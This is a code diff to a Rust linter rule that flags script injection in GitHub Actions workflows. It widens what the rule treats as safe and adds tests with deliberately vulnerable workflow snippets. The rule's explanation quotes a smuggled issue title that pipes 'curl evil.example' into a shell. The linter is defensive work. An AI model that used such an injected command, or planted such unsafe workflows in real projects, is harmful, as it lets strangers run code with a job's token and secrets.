@@ -9,7 +9,7 @@ pub(super) const RULE: Rule = Rule {
     code: Code("script-injection"),
     summary: "text that a stranger writes becomes part of a script",
     why: "An expression is replaced before the shell reads the script. Whoever opens an issue called `\"; curl evil.example | sh #` runs what they like, with the token and the secrets of the job.",
-    criterion: "An expression in a `run`, or in an input of a well-known action that runs it as a script (`actions/github-script` and others), whose value can be what anyone may write: titles, bodies, names of branches, messages of commits, names of changed files, in an event that starts the workflow. It is followed through `env`, outputs of steps and jobs, lines that a script appends to `$GITHUB_ENV` and `$GITHUB_OUTPUT`, and matrices. A variable that the shell expands itself is safe.",
+    criterion: "An expression in a `run`, or in an input of a well-known action that runs it as a script (`actions/github-script` and others), whose value can be what anyone may write: titles, bodies, names of branches, messages of commits, names of changed files, in an event that starts the workflow. It is followed through `env`, outputs of steps and jobs, lines that a script appends to `$GITHUB_ENV` and `$GITHUB_OUTPUT`, and matrices. A variable that the shell expands itself is safe, as are lists of files that an action escapes for a shell (`safe_output` of `tj-actions/changed-files`, `list-files: shell` of `dorny/paths-filter`), and what is written by an author for whose association or name a condition asks.",
     remedy: "Hand it over in `env`, and let the shell expand the variable.",
     example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"",
     better: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"$TITLE\"\n        env:\n          TITLE: ${{ github.event.issue.title }}",
@@ -139,6 +139,66 @@ mod tests {
                     #             ^^^^^^^^^^^
                   - run: echo ${{ github.event.pull_request.number }}
                   - run: echo ${{ github.event.discussion.title }}
+            ",
+        );
+    }
+
+    #[test]
+    fn what_a_trusted_author_writes_is_not_a_strangers() {
+        check(
+            &RULE,
+            "
+            on: issue_comment
+            jobs:
+              a:
+                if: github.event.comment.author_association == 'OWNER' || github.event.comment.author_association == 'MEMBER'
+                runs-on: ubuntu-latest
+                steps:
+                  - run: echo '${{ github.event.comment.body }}'
+                  - run: echo '${{ github.event.issue.title }}'
+                    #              ^^^^^^^^^^^^^^^^^^^^^^^^
+              b:
+                runs-on: ubuntu-latest
+                steps:
+                  - if: contains(fromJSON('[\"OWNER\"]'), github.event.comment.author_association)
+                    run: echo '${{ github.event.comment.body }}'
+            ",
+        );
+    }
+
+    #[test]
+    fn lists_of_files_that_are_escaped_are_safe_where_they_are_for() {
+        check(
+            &RULE,
+            "
+            steps:
+              - id: shell
+                uses: dorny/paths-filter@v3
+                with: { list-files: shell, filters: '' }
+              - id: json
+                uses: dorny/paths-filter@v3
+                with: { list-files: json, filters: '' }
+              - id: csv
+                uses: dorny/paths-filter@v3
+                with: { list-files: csv, filters: '' }
+              - id: new
+                uses: tj-actions/changed-files@v46
+              - id: old
+                uses: tj-actions/changed-files@v40
+              - run: |
+                  lint ${{ steps.shell.outputs.src_files }} ${{ steps.new.outputs.all_changed_files }}
+                  lint '${{ steps.json.outputs.src_files }}'
+                  #         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^
+                  lint ${{ steps.csv.outputs.src_files }}
+                  #        ^^^^^^^^^^^^^^^^^^^^^^^^^^^
+                  lint ${{ steps.old.outputs.all_changed_files }}
+                  #        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
+              - uses: actions/github-script@v7
+                with:
+                  script: |
+                    const files = ${{ steps.json.outputs.src_files }}
+                    const more = '${{ steps.new.outputs.all_changed_files }}'
+                    #                 ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
             ",
         );
     }
